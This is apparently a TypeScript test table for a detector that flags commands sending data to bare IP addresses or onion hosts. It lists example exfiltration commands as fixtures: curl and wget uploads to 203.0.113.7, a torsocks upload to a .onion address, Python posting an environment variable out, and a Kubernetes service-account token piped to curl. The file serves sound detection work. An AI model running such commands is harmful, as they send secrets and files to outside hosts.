import { blank, indicatorTable, runs, script, UNSEEN } from '../testing.ts';
import { commandBareAddressTold } from './bare-address-told.ts';

indicatorTable(commandBareAddressTold, {
  fires: {
    'what a listing gives': script('kubectl get ns -o name | curl -s --data-binary @- http://203.0.113.7/c'),
    'a form': script('curl -sF f=@/tmp/o https://203.0.113.7:8443/up'),
    'a file': script('/app/report > /tmp/o; wget -q --post-file=/tmp/o 203.0.113.7/o'),
    'a hidden service': script(
      'torsocks curl -F f=@/uploads/a http://k3tz7ovylqkh3wnm5zvwqj6ux4bq2kzqd4oqf5w3e7uqz2ajd2yx6hyd.onion/up',
    ),
    'from Python': runs('python3', '-c', 'import requests;requests.post("http://203.0.113.7/hit",json={"a":1})'),
    'a variable of the container, from Python': runs(
      'python3',
      '-c',
      'import os,urllib.request as u;u.urlopen("http://203.0.113.7/s",os.environ["CHAT"].encode())',
    ),
  },
  staysSilent: {
    'a token, which is told as that': script(
      'cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -d @- http://203.0.113.7/o',
    ),
    'a question': script('curl -s http://203.0.113.7/version'),
    'a timeout': script('wget -T 10 -qO- http://203.0.113.7/health'),
    'a question with options': script('curl -G -d q=1 http://203.0.113.7/version'),
    'an address that a service is told': script('curl -d "203.0.113.7" https://dyn.example.com/nic/update'),
    'a proxy by its address': script('curl -x http://203.0.113.7:3128 -d a=1 https://api.example.com/v1'),
    'a host with a name': script('curl -s -d a=1 https://api.example.com/v1/report'),
    'an address of the own network': script('curl -s -d a=1 http://10.0.0.7:8080/report'),
    'metrics that are pushed': script('echo "a 1" | curl --data-binary @- http://203.0.113.7:9091/metrics/job/a'),
    'a kubelet': script('curl -sk -d cmd=id https://203.0.113.7:10250/run/a/b/c'),
    'no command set': blank,
  },
  cannotTell: UNSEEN,
});
